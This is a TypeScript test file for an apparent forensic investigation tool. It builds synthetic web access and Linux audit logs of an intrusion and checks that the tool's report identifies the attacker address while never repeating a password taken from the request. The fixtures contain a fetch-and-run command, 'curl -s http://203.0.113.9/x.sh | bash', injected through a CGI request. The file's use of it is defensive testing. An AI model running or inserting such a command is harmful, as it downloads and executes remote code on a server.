import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { davylamp, evidence } from './run.ts'
import { START } from './samples.ts'

const SECRET = 'Hunter2Secret'

/** A program that the web server's user started, outside of every session. */
function started(serial: number, parent: number, args: readonly string[]): string {
  const stamp = `msg=audit(${(START / 1000 + 1 + serial / 1000).toFixed(3)}:${serial})`
  const program = args[0] ?? ''
  const coded = args.map((arg, at) => `a${at}=${Buffer.from(arg).toString('hex').toUpperCase()}`)
  return [
    `type=SYSCALL ${stamp}: arch=c000003e syscall=59 success=yes exit=0 ppid=${parent} pid=${parent + 1} auid=4294967295 uid=33 euid=33 tty=(none) ses=4294967295 comm="${program}" exe="/usr/bin/${program}" key="exec"`,
    `type=EXECVE ${stamp}: argc=${args.length} ${coded.join(' ')}`,
  ]
    .map((record) => `node=web-1 ${record}\n`)
    .join('')
}

const day = new Date(START).toUTCString().slice(5, 16).replaceAll(' ', '/')
const clock = new Date(START).toISOString().slice(11, 19)
const files = {
  'web-1/access.log': `203.0.113.9 - - [${day}:${clock} +0000] "POST /cgi-bin/x.sh?password=${SECRET}&cmd=curl+http://203.0.113.9/x.sh|bash HTTP/1.1" 200 5 "-" "curl/8"\n`,
  'web-1/audit.log':
    started(100, 900, ['sh', '-c', 'curl -s http://203.0.113.9/x.sh | bash']) +
    started(101, 901, ['curl', '-s', 'http://203.0.113.9/x.sh']) +
    started(102, 901, ['bash']),
  'inventory.yaml': '- name: web-1\n  addresses: [10.0.0.5]\n',
}

describe('secrets in what was asked of a service', () => {
  it.each(['json', 'html', 'markdown', 'terminal'])('are not told: %s', async (format) => {
    const folder = evidence(files)
    const inventory = ['--inventory', join(folder, 'inventory.yaml')]
    const run = await davylamp([
      'investigate',
      join(folder, 'web-1'),
      ...inventory,
      '--format',
      format,
      '--no-case',
    ])
    expect(run.exitCode).toBe(10)
    // The request is the proof of the way in.
    expect(run.stdout).toContain('203.0.113.9 speaks to the web application')
    expect(run.stdout).not.toContain(SECRET)
  })
})
